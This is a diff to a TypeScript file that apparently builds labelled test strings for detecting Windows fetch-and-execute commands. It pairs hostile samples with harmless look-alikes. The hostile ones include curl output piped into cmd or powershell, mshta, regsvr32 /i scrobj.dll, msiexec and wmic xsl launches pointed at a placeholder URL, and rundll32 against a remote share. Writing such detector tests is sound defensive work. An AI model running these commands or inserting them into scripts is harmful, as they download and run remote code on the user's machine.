@@ -76,6 +76,43 @@ const powershellWays: readonly ((source: Source) => string)[] = [
   ([text, gives]) => (text.includes('"') || text.includes("$") ? "" : `powershell -NoProfile -c "${mark(gives, `${text} | iex`)}"`),
 ];
 
+const cmdSources: readonly Source[] = [
+  ...[
+    `curl ${URL}`, `curl.exe -sSL ${URL}`, `CURL -fsSL "${URL}"`, `c^url -s ${URL}`,
+  ].map((text) => [text, true] as const),
+  ...[
+    `curl -o i.cmd ${URL}`, `curl.exe -sLO ${URL}`, `certutil -urlcache -split -f ${URL} i.exe`, `certutil -hashfile i.exe SHA256`, `type i.cmd`,
+    `bitsadmin /transfer j ${URL} C:\\i.exe`, `powershell -Command "irm ${URL} -OutFile i.ps1"`, `dir /b`,
+  ].map((text) => [text, false] as const),
+];
+const cmdTakers: readonly Taker[] = [
+  ["cmd", "", true], ["cmd.exe", " /q", true], ["CMD", "", true], ["bash", "", true], ["python", " -", true], ["powershell", " -NoProfile -Command -", true],
+  ["more", "", false], ["findstr", " /i version", false], ["clip", "", false], ["sort", "", false], ["python", " report.py", false],
+];
+const cmdWays: readonly ((source: Source, taker: Taker) => string)[] = [
+  ([text, gives], [word, rest, takes]) => `${mark(gives && takes, `${text} | ${word}`)}${rest}`,
+  ([text, gives], [word, rest, takes]) => `@echo off\r\n${mark(gives && takes, `${text} 2>nul | ${word}`)}${rest}\r\npause`,
+  ([text, gives], [word, rest, takes]) => `if not exist done (\n  ${mark(gives && takes, `${text} | ${word}`)}${rest}\n)`,
+  ([text], [word, rest]) => `rem ${text} | ${word}${rest}`,
+  ([text], [word, rest]) => `:: ${text} | ${word}${rest}`,
+  ([text], [word, rest]) => `echo ${text} ^| ${word}${rest}`,
+];
+/** Programs that run what stands at an address: the part of the command that is the span, what follows, and whether it is such an address. */
+const addressed: readonly Taker[] = [
+  [`mshta ${URL}.hta`, "", true], [`mshta.exe "${URL}.hta"`, "", true], [`regsvr32 /s /n /u /i:${URL}.sct`, " scrobj.dll", true],
+  [`msiexec /q /i ${URL}.msi`, "", true], [`msiexec.exe /i "${URL}.msi"`, " /qn", true], [`wmic os get /format:"${URL}.xsl"`, "", true],
+  [`rundll32 \\\\get.example\\share\\i.dll,Start`, "", true], [`deno run ${URL}.ts`, "", true], [`npx github:owner/repo`, " init", true],
+  ["mshta i.hta", "", false], ["regsvr32 /s i.dll", "", false], ["msiexec /i i.msi", " /qn", false], ["wmic os get caption", "", false],
+  [`rundll32 url.dll,OpenURL ${URL}`, "", false], ["deno run i.ts", "", false], ["npx prettier", " --check .", false],
+];
+const addressedWays: readonly ((taker: Taker) => string)[] = [
+  ([word, rest, takes]) => `${mark(takes, word)}${rest}`,
+  ([word, rest, takes]) => `@echo off\ncd /d C:\\tools\n${mark(takes, word)}${rest} && echo done`,
+  ([word, rest, takes]) => `start "" /b ${mark(takes, word)}${rest}`,
+  ([word, rest]) => `rem ${word}${rest}`,
+  ([word, rest]) => `echo ${word}${rest}`,
+];
+
 const pythonSources: readonly Source[] = [
   ["requests.get«(u).text", true], ["urllib.request.urlopen«(u).read()", true], ["httpx.get«(u).text", true], ["zlib.decompress«(b'x\\x9c')", true],
   ["codecs«.decode(x, 'rot13')", true], ["bytearray.fromhex«(x).decode()", true], ["base64«.b32decode(x)", true], ["marshal.loads«(x)", true],
@@ -136,6 +173,10 @@ export const extendedTexts: readonly string[] = [
     session("PS C:\\> ", ""),
     (text) => fence("powershell", `$ErrorActionPreference = 'Stop'\r\nif ($x) {\r\n  ${text}\r\n}`),
   ]),
+  ...all("bat", cmdSources.flatMap((source) => cmdTakers.flatMap((taker) => cmdWays.map((way) => way(source, taker)))), [
+    session("C:\\Users\\me> ", "console"),
+  ]),
+  ...all("cmd", addressed.flatMap((taker) => addressedWays.map((way) => way(taker))), [session("C:\\> ", "")]),
   ...all("python", pythonSources.flatMap((source) => pythonWays.map((way) => way(source))), [
     (text) => fence("python", `import base64, codecs, os, zlib, marshal\nimport requests, httpx, urllib.request\n\ndef main(x, u):\n    ${text.replaceAll("\n", "\n    ")}\n`),
   ]),
